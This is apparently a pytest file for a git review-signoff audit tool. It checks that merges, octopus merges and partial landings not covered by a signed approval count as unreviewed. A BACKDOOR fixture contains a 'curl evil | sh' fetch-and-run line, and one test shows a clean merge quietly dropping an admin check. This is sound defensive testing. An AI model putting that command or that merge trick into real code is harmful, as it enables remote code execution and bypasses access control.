"""The audit judges what landed with the gate's own coverage check (issue 11 residuals, helper "harden").

An approval marks a commit of the audited branch "reviewed" only when the gate would have counted it for
that commit: the reviewed diff contains what the commit brought in, and the landed head agrees with the
reviewed head on every reviewed path (landing only part of an approved change is not covered). Each
attack builds a real history and signs records with real ssh-keygen keys.
"""

from __future__ import annotations

from pathlib import Path

from tests.helpers import commit_files, git, make_repo
from tests.trust_helpers import audit, cli, commit_record, rev, signed, trust

OLD_API = "def endpoint(user):\n    if not user.is_admin:\n        raise PermissionError\n    return 1\n"
NEW_API = "def endpoint(user):\n    return 1\n"
WRAP = "def wrap(f):\n    return f\n"
MOVED = "def wrap(f):\n    def g(user):\n        assert user.is_admin\n        return f(user)\n    return g\n"
BACKDOOR = "import os\nos.system('curl evil | sh')\n"


def _repo(tmp_path: Path, ssh_keys) -> Path:
    r = make_repo(tmp_path / "repo")
    signers = trust(("alice@example.com", ssh_keys["ed25519"]), ("bob@example.com", ssh_keys["ed25519-bob"]))
    commit_files(r, {".signoff/allowed_signers": signers, "api.py": OLD_API, "middleware.py": WRAP}, "base")
    return r


def _commit(doc: dict, sha: str) -> dict:
    return next(c for c in doc["commits"] if c["sha"] == sha)


def test_merging_a_branch_whose_approval_saw_only_its_last_commit_is_unreviewed(
    tmp_path: Path, ssh_keys
) -> None:
    """The reviewer approved the docs commit at the tip of a branch (base: the commit before it). The
    merge brings in the whole branch, backdoor included: that approval covers only what it showed."""
    r = _repo(tmp_path, ssh_keys)
    git(r, "checkout", "-q", "-b", "feature")
    commit_files(r, {"tools.py": BACKDOOR}, "tooling")
    commit_files(r, {"README.md": "docs\n"}, "docs")
    rec = signed(ssh_keys, "ed25519", r, base="HEAD~1", head="HEAD")
    git(r, "checkout", "-q", "main")
    commit_files(r, {"other.py": "x = 1\n"}, "main moves on")  # the merge's tree is its own
    git(r, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    merge = rev(r, "HEAD")
    commit_record(r, rec, "the approval")
    code, doc = audit(r)
    assert _commit(doc, merge)["reviewed"] is False, doc
    assert code == 1


def test_an_octopus_merge_of_an_approved_head_and_an_unreviewed_branch_is_unreviewed(
    tmp_path: Path, ssh_keys
) -> None:
    """git's --remerge-diff skips octopus merges: the approved head must not cover what the other
    branches bring in."""
    r = _repo(tmp_path, ssh_keys)
    git(r, "checkout", "-q", "-b", "good")
    commit_files(r, {"feature.py": "def feature():\n    return 1\n"}, "feature")
    rec = signed(ssh_keys, "ed25519", r, base="main", head="HEAD")
    git(r, "checkout", "-q", "-b", "evil", "main")
    commit_files(r, {"tools.py": BACKDOOR}, "tooling")
    git(r, "checkout", "-q", "main")
    git(r, "merge", "-q", "--no-ff", "-m", "merge good", "good", "evil")
    merge = rev(r, "HEAD")
    assert len(git(r, "rev-list", "--parents", "-n", "1", "HEAD").split()) == 4
    commit_record(r, rec, "the approval")
    code, doc = audit(r)
    assert _commit(doc, merge)["reviewed"] is False, doc
    assert "tools.py" in " ".join(_commit(doc, merge)["not_covered"])
    assert code == 1


def test_an_octopus_merge_cannot_put_the_approved_head_first_among_side_parents(
    tmp_path: Path, ssh_keys
) -> None:
    """Same with the evil branch named first (the approved head is the third parent)."""
    r = _repo(tmp_path, ssh_keys)
    git(r, "checkout", "-q", "-b", "good")
    commit_files(r, {"feature.py": "def feature():\n    return 1\n"}, "feature")
    rec = signed(ssh_keys, "ed25519", r, base="main", head="HEAD")
    git(r, "checkout", "-q", "-b", "evil", "main")
    commit_files(r, {"tools.py": BACKDOOR}, "tooling")
    git(r, "checkout", "-q", "main")
    git(r, "merge", "-q", "--no-ff", "-m", "merge", "evil", "good")
    merge = rev(r, "HEAD")
    commit_record(r, rec, "the approval")
    _, doc = audit(r)
    assert _commit(doc, merge)["reviewed"] is False, doc


def test_partial_landing_by_fast_forward_leaves_the_rest_unreviewed(tmp_path: Path, ssh_keys) -> None:
    """The approved change moved a check; a later commit on the branch drops the new half. Landed by
    fast-forward, the approved commit is reviewed and the commit that drops half of it is not."""
    r = _repo(tmp_path, ssh_keys)
    git(r, "checkout", "-q", "-b", "feature")
    moved = commit_files(r, {"api.py": NEW_API, "middleware.py": MOVED}, "move check")
    commit_record(r, signed(ssh_keys, "ed25519", r, base="main", head="HEAD"))
    dropped = commit_files(r, {"middleware.py": WRAP}, "keep it simple")
    git(r, "checkout", "-q", "main")
    git(r, "merge", "-q", "--ff-only", "feature")
    _, doc = audit(r)
    assert _commit(doc, moved)["reviewed"] is True
    assert _commit(doc, dropped)["reviewed"] is False


def test_partial_landing_by_merge_or_squash_is_unreviewed(tmp_path: Path, ssh_keys) -> None:
    r = _repo(tmp_path, ssh_keys)
    git(r, "checkout", "-q", "-b", "feature")
    commit_files(r, {"api.py": NEW_API, "middleware.py": MOVED}, "move check")
    commit_record(r, signed(ssh_keys, "ed25519", r, base="main", head="HEAD"))
    commit_files(r, {"middleware.py": WRAP}, "keep it simple")
    git(r, "checkout", "-q", "main")
    git(r, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    merge = rev(r, "HEAD")
    git(r, "merge", "-q", "--squash", "feature")
    _, doc = audit(r)
    assert _commit(doc, merge)["reviewed"] is False


def test_a_merge_whose_result_differs_from_the_approved_head_on_a_reviewed_path_is_unreviewed(
    tmp_path: Path, ssh_keys
) -> None:
    """Two approvals, each of an innocent diff: bob's makes ``wrap`` a no-op at the end of the file,
    alice's moves the admin check into ``wrap``. git merges them cleanly and the check is gone; nobody
    reviewed that file as it landed (the gate says the same of a rebase onto a change of a reviewed file)."""
    r = _repo(tmp_path, ssh_keys)
    tail = "\n\n# registry\n\n\n\nREGISTRY = []\n"
    commit_files(r, {"middleware.py": WRAP + tail}, "registry")
    git(r, "checkout", "-q", "-b", "feature")
    commit_files(r, {"api.py": NEW_API, "middleware.py": MOVED + tail}, "move check")
    rec = signed(ssh_keys, "ed25519", r, base="main", head="HEAD")
    git(r, "checkout", "-q", "-b", "tidy", "main")
    commit_files(r, {"middleware.py": WRAP + tail + "wrap = lambda f: f\n"}, "tidy")
    tidy = signed(ssh_keys, "ed25519-bob", r, base="main", head="HEAD", email="bob@example.com")
    git(r, "checkout", "-q", "main")
    git(r, "merge", "-q", "--ff-only", "tidy")
    git(r, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    merge = rev(r, "HEAD")
    assert "wrap = lambda f: f" in (r / "middleware.py").read_text()
    assert "assert user.is_admin" in (r / "middleware.py").read_text()
    commit_record(r, rec, "alice's approval")
    commit_record(r, tidy, "bob's approval")
    _, doc = audit(r)
    assert _commit(doc, merge)["reviewed"] is False, doc
    assert "middleware.py" in " ".join(_commit(doc, merge)["not_covered"])


def test_a_clean_merge_of_a_fully_reviewed_branch_stays_reviewed(tmp_path: Path, ssh_keys) -> None:
    """Control: the whole branch approved (base: where it left main), merged while main moved on."""
    r = _repo(tmp_path, ssh_keys)
    git(r, "checkout", "-q", "-b", "feature")
    commit_files(r, {"tools.py": "def tool():\n    return 1\n"}, "tooling")
    commit_files(r, {"README.md": "docs\n"}, "docs")
    rec = signed(ssh_keys, "ed25519", r, base="main", head="HEAD")
    git(r, "checkout", "-q", "main")
    commit_files(r, {"other.py": "x = 1\n"}, "main moves on")
    git(r, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    merge = rev(r, "HEAD")
    commit_record(r, rec, "the approval")
    code, doc = audit(r)
    assert _commit(doc, merge)["reviewed"] is True, doc
    assert code == 1  # the direct push "main moves on" is unreviewed


def test_the_audit_says_it_applies_the_gates_coverage_check(tmp_path: Path, ssh_keys) -> None:
    r = _repo(tmp_path, ssh_keys)
    _, doc = audit(r)
    assert doc["coverage"]["check"] == "gate"
    for fmt in ("text", "markdown"):
        _, out, _ = cli(r, "audit", "--no-ai", "--format", fmt)
        assert "landing only part of an approved change" in out, out
